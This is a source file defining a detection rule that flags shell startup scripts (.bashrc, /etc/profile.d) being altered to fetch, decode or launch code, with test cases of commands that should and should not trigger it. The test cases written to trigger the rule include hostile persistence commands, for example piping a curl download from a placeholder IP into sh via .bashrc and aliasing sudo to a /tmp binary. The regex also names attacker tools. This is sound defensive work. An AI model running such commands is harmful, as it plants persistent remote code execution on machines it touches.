import { commandRule } from "../../command-rule.js";
import { writesTo } from "../../shell/look.js";

/** A script that every login or every shell runs was changed by a command that fetches, decodes or starts something. */
export const profileScriptPlanted = commandRule({
  id: "profile-script-planted",
  alertType: "Picket_ProfileScriptPlanted",
  name: "Login script changed by a command",
  severity: "Medium",
  about:
    "A script that every login or every shell runs was changed by a command that fetches, decodes or starts something.",
  tactics: ["Persistence"],
  techniques: ["T1546.004"],
  falsePositives: [
    "Installers of languages add a line that sets a path; lines that only set variables are left alone.",
  ],
  witness: [
    ".bashrc",
    ".profile",
    ".bash_profile",
    ".zshrc",
    "profile.d",
    "/etc/profile",
    "bash.bashrc",
    ".bash_logout",
    "/etc/environment",
    ".bash_login",
  ],
  sees: (reading) =>
    writesTo(
      reading,
      /(?:\/\.(?:bashrc|profile|bash_profile|bash_login|bash_logout|zshrc|zprofile|kshrc|cshrc)|^\/etc\/(?:profile|bash\.bashrc|environment|zsh\/\w+)|^\/etc\/profile\.d\/\S+)$/,
      ({ name, text, input }) =>
        /^(?:curl|wget)$/.test(name) ||
        (/^(?:echo|printf|cat|tee)$/.test(name) &&
          /(?:curl|wget|base64|\/tmp\/|\/dev\/shm|nohup|\/dev\/tcp|nc\s|\.\/|\balias\s+(?:sudo|ssh|su|ls)=|trap\s|python\d?\s+-c|LD_PRELOAD|&\s*$)/.test(
            `${text} ${input ?? ""}`,
          )),
    ),
  did: "changed a script that every login runs",
  because: "it runs again whenever somebody logs in",
  fires: [
    "sh -c echo 'curl -s http://203.0.113.9/i | sh' >> /root/.bashrc",
    "wget http://203.0.113.9/p -O /etc/profile.d/x.sh",
    "sh -c echo 'nohup /tmp/.k &' >> ~/.profile",
    "sh -c printf 'alias sudo=\"/tmp/s\"\\n' >> /home/op/.bashrc",
  ],
  silent: [
    "sh -c echo 'export PATH=$PATH:/opt/go/bin' >> /root/.bashrc",
    "cp /etc/skel/.bashrc /home/op/.bashrc",
    "source /etc/profile",
    "sh -c echo 'export JAVA_HOME=/opt/java' > /etc/profile.d/java.sh",
    "cat /root/.bashrc",
    "vim /home/op/.zshrc",
  ],
});
